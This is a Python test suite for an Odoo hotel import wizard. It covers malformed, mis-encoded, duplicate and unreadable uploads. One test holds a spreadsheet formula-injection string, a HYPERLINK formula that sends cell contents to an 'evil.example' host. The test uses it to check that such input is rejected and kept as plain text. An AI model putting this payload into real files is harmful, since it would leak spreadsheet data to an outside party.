import base64
import gc
import io
import random
from unittest.mock import patch

import openpyxl

from odoo.exceptions import UserError
from odoo.tests import tagged
from odoo.tools import mute_logger

from odoo.addons.hotel_crm.tools.gc_pause import paused_gc

from .common import PMS_HEADER, HotelImportCase


@tagged("post_install", "-at_install")
class TestBadInput(HotelImportCase):
    def test_empty_file_is_refused(self):
        for data in (b"", b"\xef\xbb\xbf", b"\r\n\r\n"):
            with self.assertRaisesRegex(UserError, "empty"):
                self.wizard(data or b" ").action_dry_run()

    def test_a_refused_file_leaves_garbage_collection_running(self):
        # the import pauses Python's collector while it holds the file's rows: a file it
        # refuses half-way must not leave the server's process without one
        self.assertTrue(gc.isenabled())
        with self.assertRaisesRegex(UserError, "header but no rows"):
            self.wizard(self.csv_bytes(PMS_HEADER, [])).action_dry_run()
        self.assertTrue(gc.isenabled())
        log = self.run_import(self.csv_bytes(PMS_HEADER, [self.pms_row(ref="GC1")]))
        self.assertEqual(log.stays_created, 1)
        self.assertTrue(gc.isenabled())

    def test_the_collector_is_paused_once_and_resumed_by_the_outermost_pause(self):
        self.assertTrue(gc.isenabled())
        with paused_gc() as outer:
            self.assertTrue(outer)
            self.assertFalse(gc.isenabled())
            with paused_gc() as inner:
                self.assertFalse(inner)
            # the inner block did not pause it, so it does not resume it either
            self.assertFalse(gc.isenabled())
        self.assertTrue(gc.isenabled())

    def test_header_only_file_is_refused(self):
        with self.assertRaisesRegex(UserError, "header but no rows"):
            self.wizard(self.csv_bytes(PMS_HEADER, [])).action_dry_run()

    def test_semicolon_and_tab_files_are_read_and_a_wrong_delimiter_explained(self):
        rows = [self.pms_row(ref="S1")]
        for delimiter in (";", "\t"):
            log = self.run_import(self.csv_bytes(PMS_HEADER, rows, delimiter=delimiter),
                                  apply=False)
            self.assertEqual((log.rows_rejected, log.stays_created), (0, 1))
        # a file whose columns are glued together by an unexpected separator
        data = "\n".join("#".join(r) for r in [PMS_HEADER, rows[0]]).encode()
        with self.assertRaisesRegex(UserError, "single column"):
            self.wizard(data).action_dry_run()

    def test_ten_thousand_rows_with_five_percent_broken_lists_exactly_the_broken_rows(self):
        rng = random.Random(6)
        rows, broken = [], set()
        breakers = [
            ("Email", "broken@"), ("Mobile", "999"), ("Departure", "2026-02-01"),
            ("Property", "Nowhere Inn"), ("Room Revenue", "-1"), ("Arrival", "31/31/2026"),
            ("Status", "lost"),
        ]
        for i in range(10_000):
            row = self.pms_row(ref=f"B{i:05d}", name=f"Guest {i}", email=f"g{i}@example.com",
                               phone=f"139{i:08d}")
            if i % 20 == 7:
                column, value = breakers[rng.randrange(len(breakers))]
                row[PMS_HEADER.index(column)] = value
                broken.add(i + 2)  # file row number, the header is row 1
            rows.append(row)
        log = self.run_import(self.csv_bytes(PMS_HEADER, rows), apply=False)
        self.assertEqual(len(broken), 500)
        self.assertEqual(log.rows_total, 10_000)
        self.assertEqual(set(log.line_ids.mapped("row_number")), broken)
        self.assertEqual(log.stays_created, 9_500)

    def test_mixed_encodings_are_read_line_by_line(self):
        header = ",".join(PMS_HEADER).encode()
        utf8 = ",".join(self.pms_row(ref="M1", name="王伟")).encode("utf-8")
        gbk = ",".join(self.pms_row(ref="M2", name="李娜", email="lina@example.com",
                                    phone="13911112222")).encode("gb18030")
        log = self.run_import(b"\xef\xbb\xbf" + header + b"\r\n" + utf8 + b"\r\n" + gbk)
        self.assertEqual(log.rows_rejected, 0)
        names = self.env["hotel.stay"].search([("booking_ref", "in", ["M1", "M2"])]).mapped(
            "partner_id.name")
        self.assertEqual(sorted(names), sorted(["王伟", "李娜"]))
        self.assertEqual(log.encoding, "gb18030,utf-8")

    def test_formula_injection_stays_text_in_the_rejects_xlsx(self):
        evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
        rows = [self.pms_row(ref="F1", name=evil), self.pms_row(ref="F2", email=evil)]
        log = self.run_import(self.csv_bytes(PMS_HEADER, rows))
        self.assertEqual(log.rows_rejected, 2)
        self.assertIn("formula", log.line_ids[0].reason)
        book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(log.rejects_file)))
        sheet = book.active
        cells = [c for row in sheet.iter_rows() for c in row if str(c.value).startswith("=")]
        self.assertEqual(len(cells), 2)
        for cell in cells:
            self.assertEqual(cell.data_type, "s")
            self.assertEqual(cell.value, evil)

    def test_duplicate_rows_in_the_file_are_rejected_once(self):
        row = self.pms_row(ref="D1")
        log = self.run_import(self.csv_bytes(PMS_HEADER, [row, row, row]))
        self.assertEqual((log.stays_created, log.rows_rejected), (1, 2))
        self.assertIn("repeats row 2", log.line_ids[0].reason)

    def test_booking_for_a_guest_merged_away_goes_to_the_survivor(self):
        survivor = self.make_guest("王伟", email="wangwei@example.com")
        merged = self.make_guest("Wei Wang", email="wei.wang@example.net", phone="13800138000")
        self.make_stay(survivor, "2026-01-05")
        self.env["hotel.merge.journal"]._merge(merged, survivor, "same guest")
        row = self.pms_row(ref="AFTER1", name="Wei Wang", email="wei.wang@example.net",
                           phone="")
        log = self.run_import(self.csv_bytes(PMS_HEADER, [row]))
        self.assertEqual((log.guests_created, log.guests_redirected), (0, 1))
        stay = self.env["hotel.stay"].search([("booking_ref", "=", "AFTER1")])
        self.assertEqual(stay.partner_id, survivor)
        self.assertEqual(survivor.stay_count, 2)
        self.assertFalse(merged.active)

    def test_a_row_the_database_refuses_is_rejected_whole_and_the_others_land(self):
        # a stay recorded by someone else between the lookup and the insert
        other = self.make_guest("别人", email="other@example.com")
        self.make_stay(other, "2026-03-01", booking_ref="RACE1", channel_id=self.env.ref(
            "hotel_crm.channel_website").id)
        rows = [self.pms_row(ref="RACE1", name="赵六", email="zhao6@example.com",
                             phone="13700000006"),
                self.pms_row(ref="RACE2")]
        wizard_cls = type(self.env["hotel.import.wizard"])
        original = wizard_cls._existing

        def existing_without_stays(wizard, cleaned):
            by_email, by_phone, __ = original(wizard, cleaned)
            return by_email, by_phone, {}

        with patch.object(wizard_cls, "_existing", existing_without_stays), \
                mute_logger("odoo.sql_db", "odoo.addons.hotel_import.wizard.hotel_import_wizard"):
            log = self.run_import(self.csv_bytes(PMS_HEADER, rows))
        self.assertEqual(log.rows_rejected, 1)
        self.assertEqual(log.line_ids.row_number, 2)
        self.assertIn("refused", log.line_ids.reason)
        self.assertEqual((log.stays_created, log.guests_created), (1, 1))
        self.assertFalse(self.env["res.partner"].search([("email", "=", "zhao6@example.com")]))
        self.assertEqual(self.env["hotel.stay"].search([("booking_ref", "=", "RACE1")]).partner_id,
                         other)


@tagged("post_install", "-at_install")
class TestUnreadableUploads(HotelImportCase):
    """S6: whatever the upload, the dry run answers with the import's own message and
    writes nothing (no log, no guest)."""

    def assert_refused(self, data, message, filename="upload.csv"):
        Log = self.env["hotel.import.log"]
        logs, guests = Log.search_count([]), self.env["res.partner"].search_count([])
        wizard = self.env["hotel.import.wizard"].with_user(self.guest_relations).create({
            "file": base64.b64encode(data),
            "filename": filename,
            "preset_id": self.pms.id,
            "company_id": self.property_a.id,
        })
        with self.assertRaisesRegex(UserError, message):
            wizard.action_dry_run()
        self.assertEqual(Log.search_count([]), logs)
        self.assertEqual(self.env["res.partner"].search_count([]), guests)

    def test_a_zero_byte_upload_says_the_file_is_empty(self):
        self.assert_refused(b"", "The file is empty")

    def test_blank_header_only_and_wrongly_encoded_files_are_explained(self):
        self.assert_refused(b" \r\n\t\r\n  ", "The file is empty")
        self.assert_refused(self.csv_bytes(PMS_HEADER, []), "header but no rows")
        utf16 = self.csv_bytes(PMS_HEADER, [self.pms_row()], encoding="utf-16")
        self.assert_refused(utf16, "encoding")
        self.assert_refused(utf16[2:], "cannot be read")  # UTF-16 without byte order mark

    def test_binary_garbage_and_a_huge_line_are_explained(self):
        garbage = bytes(random.Random(5).randrange(256) for __ in range(20_000))
        self.assert_refused(b"\x00" + garbage, "cannot be read|encoding")
        self.assert_refused(b"PK\x03\x04" + garbage, "cannot be read", filename="x.xlsx")
        huge = ",".join(PMS_HEADER).encode() + b"\r\n\"" + b"x" * 300_000 + b"\"\r\n"
        self.assert_refused(huge, "longer than")
        self.assert_refused(b"a;" * 400_000, "longer than")
